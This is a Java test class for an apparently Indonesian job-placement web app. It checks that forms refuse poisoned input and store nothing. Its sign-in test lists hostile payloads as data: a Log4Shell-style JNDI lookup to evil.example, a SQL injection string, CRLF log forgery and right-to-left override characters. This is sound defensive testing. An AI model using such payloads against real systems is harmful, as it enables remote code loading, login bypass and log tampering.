package id.antarkerja.trust;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.DynamicTest.dynamicTest;

import id.antarkerja.Visitor;
import id.antarkerja.Visitor.Answer;
import id.antarkerja.access.Role;
import id.antarkerja.browser.Desk;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.TreeSet;
import java.util.UUID;
import java.util.stream.Stream;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestFactory;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Every kind of poison × every form: refused with 4xx, nothing stored, the next form is taken. */
@ExtendWith(NothingPilesUp.class)
class PoisonedFormsTest extends PoisonHouse {
  @TestFactory
  Stream<DynamicTest> whatever_is_sent_is_refused_and_stores_nothing() {
    return Targets.ALL.stream().map(target -> dynamicTest(target.name(), () -> all(target)));
  }

  @Test
  void there_are_many_kinds_and_hundreds_of_cases() throws IOException {
    List<Poison> all = Targets.ALL.stream().flatMap(target -> Poison.of(target).stream()).toList();
    var kinds = new TreeSet<>(all.stream().map(Poison::kind).toList());
    Files.writeString(
        Path.of("target/bad-input.txt"),
        "%d forms, %d cases in %d kinds%n%s%n"
            .formatted(Targets.ALL.size(), all.size(), kinds.size(), String.join("\n", kinds)));
    assertThat(all).hasSizeGreaterThan(1_200);
    assertThat(kinds).hasSizeGreaterThanOrEqualTo(31);
  }

  /** The control: without poison the same forms are taken, so it is the poison that is refused. */
  @ParameterizedTest
  @ValueSource(
      strings = {
        "a person",
        "a vacancy",
        "an employer",
        "a contact",
        "a vacancy's change",
        "an employer's change",
        "a contact's change",
        "an officer's own address",
        "an officer",
        "a wish at the counter",
        "an incident",
        "a jobseeker's link",
        "an employer's link",
        "one's own correction",
        "a consent taken back",
        "a note",
        "an export",
        "a limit raised"
      })
  void the_same_form_without_poison_is_taken(String name) {
    Target target = target(name);
    Visitor visitor = visitor(target.who(), worlds.worn());
    String path = filled(target.action(), worlds.worn(), target.who());
    Answer taken = visitor.post(path, valid(target, visitor, worlds.worn(), Cells.csrf(visitor)));
    assertThat(taken.status()).as(taken.text()).isEqualTo(303);
    tables.jdbc().sql("delete from signin.address_changes").update();
  }

  private static Target target(String name) {
    return Targets.ALL.stream().filter(t -> t.name().equals(name)).findFirst().orElseThrow();
  }

  @Test
  void fields_that_the_form_does_not_have_change_nothing() {
    Target person = target("a person");
    Visitor visitor = visitor(Who.OWN);
    var fields = new ArrayList<>(valid(person, Cells.csrf(visitor)));
    Map.of(
            "id",
            UUID.randomUUID().toString(),
            "public_id",
            UUID.randomUUID().toString(),
            "territory",
            OneOffice.THERE,
            "office_id",
            UUID.randomUUID().toString(),
            "officeId",
            UUID.randomUUID().toString(),
            "active",
            "false",
            "merged_into",
            UUID.randomUUID().toString(),
            "version",
            "99",
            "status",
            "PLACED",
            "identity.name",
            "Orang Lain")
        .forEach((name, value) -> fields.add(Map.entry(name, value)));
    Answer taken = visitor.post(person.action(), fields);
    assertThat(taken.status()).isEqualTo(303);
    String stored =
        tables
            .jdbc()
            .sql(
                "select territory || ' ' || active || ' ' || version || ' ' || (merged_into is"
                    + " null) from jobseekers.jobseekers where public_id = :id::uuid")
            .param("id", Desk.id(taken.location()))
            .query(String.class)
            .single();
    assertThat(stored).isEqualTo(OneOffice.HERE + " true 1 true");
  }

  @Test
  void of_a_field_sent_twice_the_first_counts() {
    Target employer = target("an employer");
    Visitor visitor = visitor(Who.OWN);
    var fields = new ArrayList<>(valid(employer, Cells.csrf(visitor)));
    fields.add(Map.entry("name", "PT Yang Kedua"));
    Answer taken = visitor.post(employer.action(), fields);
    assertThat(visitor.get(taken.location()).text()).contains("PT Wajar").doesNotContain("Kedua");
  }

  @Test
  void marks_that_turn_the_reading_direction_are_not_stored() {
    Target employer = target("an employer");
    Visitor visitor = visitor(Who.OWN);
    var fields = new ArrayList<>(valid(employer, Cells.csrf(visitor)));
    fields.removeIf(field -> field.getKey().equals("name"));
    String name = "PT Berkas\u202Egpj.exe\u2066 " + Desk.letters();
    fields.add(Map.entry("name", name));
    Answer taken = visitor.post(employer.action(), fields);
    assertThat(visitor.get(taken.location()).page().select("h1").text())
        .doesNotContain("\u202E", "\u2066")
        .contains("PT Berkasgpj.exe");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "application/json",
        "text/plain",
        "application/xml",
        "multipart/form-data",
        "multipart/form-data; boundary=",
        "multipart/form-data; boundary=x",
        "application/octet-stream",
        "x"
      })
  void a_form_that_says_it_is_something_else_is_refused(String type) {
    Targets.ALL.forEach(target -> visitor(target.who()));
    Map<String, Long> before = stored();
    for (Target target : Targets.ALL) {
      Visitor visitor = visitor(target.who());
      String path = filled(target.action(), worlds.here(), target.who());
      String body = Visitor.body(valid(target, Cells.csrf(visitor)));
      Answer answer = visitor.request("POST", path, body, "Content-Type", type);
      assertThat(answer.status()).as(target.name()).isBetween(400, 499);
    }
    assertThat(stored()).isEqualTo(before);
  }

  /** Where tries are counted: whatever is sent is one of them, and opens nothing. */
  @ParameterizedTest
  @ValueSource(
      strings = {
        "/masuk",
        "/masuk/ulang",
        "/masuk/kode",
        "/masuk/pengaman",
        "/masuk/tautan/AAAA",
        "/saya/masuk/sandi",
        "/usaha/masuk/sandi",
        "/petugas/akun/surel/kode"
      })
  void signing_in_takes_nothing_of_this_either(String path) throws IOException {
    String forged = "2026-01-01T00:00:00Z ERROR forged-" + Desk.letters();
    boolean inside = List.of("/masuk/ulang", "/petugas/akun/surel/kode").contains(path);
    Visitor visitor = inside ? signedIn(signedUp("3208", Role.HEAD)) : visitor();
    for (String raw :
        List.of(
            "a%00b",
            "%ED%A0%80",
            "%C3%28",
            "%zz",
            "x".repeat(1_000_000),
            Poison.encoded("a@a" + ".a".repeat(60_000)),
            Poison.encoded("x\r\n" + forged),
            Poison.encoded("${jndi:ldap://evil.example/x}"),
            Poison.encoded("' or '1'='1"))) {
      Visitor sender = inside ? visitor : visitor();
      String csrf = Poison.encoded(Cells.csrf(sender));
      for (String field : List.of("email", "password", "code", "ke")) {
        String body = "_csrf=" + csrf + "&" + field + "=" + raw;
        Answer answer = sender.request("POST", path, body);
        assertThat(answer.status()).as(field).isBetween(302, 499);
        assertThat(answer.location())
            .as(field)
            .doesNotMatch("/(petugas|saya|usaha)(/(?!masuk).*)?");
      }
    }
    assertThat(Files.readAllLines(Path.of("target/test.log")))
        .noneMatch(line -> line.startsWith(forged));
  }
}
